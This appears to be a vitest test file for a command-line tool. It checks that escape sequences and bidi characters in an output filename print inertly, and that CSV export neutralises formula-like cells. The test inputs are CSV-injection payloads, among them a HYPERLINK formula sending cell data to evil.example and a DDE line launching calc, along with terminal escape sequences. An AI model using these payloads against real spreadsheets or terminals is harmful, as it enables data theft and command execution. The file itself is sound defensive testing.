// What a command prints about a path or a cell is inert: `Report written to <path>` shows no escape
// sequence from the -o name, and `stats --csv` never writes a cell a spreadsheet would run as a
// formula.
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { runCli, tempDir } from './support/cli.js';

const SEED = join(import.meta.dirname, '..', 'seeds', '000_30eaba9eac67d68e.json');
// eslint-disable-next-line no-control-regex
const UNSAFE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

describe('Report written to <path>', () => {
  it.each([
    ['a CSI sequence', 'r\u001b[2Jep.html'],
    ['an OSC title', 'r\u001b]0;pwned\u0007ep.html'],
    ['a C1 CSI', 'r\u009b31mep.html'],
    ['a bidi override', 'r\u202elmth.ep'],
  ])('shows %s in the -o name inert', async (_what, name) => {
    const dir = tempDir();
    const run = await runCli(['report', SEED, '-o', name], { cwd: dir });
    expect(run.code, run.stderr).toBe(0);
    expect(run.stderr).toMatch(/^Report written to /);
    expect(run.stderr).not.toMatch(UNSAFE);
    // The file itself has the name asked for.
    expect(readFileSync(join(dir, name), 'utf8')).toMatch(/^<!doctype html>/i);
  });
});

describe('stats --csv: no live formulas', () => {
  const motions = [
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    '+1+cmd|\' /C calc\'!A0',
    '-2+3',
    '@SUM(1,2)',
    '\t=1+1',
    '\r=1+1',
  ];
  it.each(motions)('prefixes a cell that starts like a formula: %j', async (motion) => {
    const dir = tempDir();
    const t = JSON.parse(readFileSync(SEED, 'utf8'));
    t.motion = motion;
    writeFileSync(join(dir, 'a.json'), JSON.stringify(t));
    writeFileSync(join(dir, 'b.json'), JSON.stringify({ ...t, id: `${t.id}-b` }));
    const run = await runCli(['stats', 'a.json', 'b.json', '--csv'], { cwd: dir });
    expect(run.code, run.stderr).toBe(0);
    const cells = run.stdout
      .trim()
      .split('\n')
      .flatMap((line) => line.match(/("(?:[^"]|"")*"|[^,]*)(?:,|$)/g)!.map((c) => c.replace(/,$/, '').replace(/^"|"$/g, '')));
    const questionCells = cells.filter((c) => c.includes(motion.trim().slice(1, 4)));
    expect(questionCells.length).toBeGreaterThan(0);
    for (const cell of cells) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(questionCells.every((c) => c.startsWith("'"))).toBe(true);
  });

  it('leaves ordinary cells and numbers as they were', async () => {
    const run = await runCli(['stats', SEED, '--csv']);
    expect(run.stdout.split('\n')[0]).toBe('scope,question,round,measure,mean,low,high,n,count,method,group,ties,clusters');
    expect(run.stdout).not.toContain("'");
  });
});
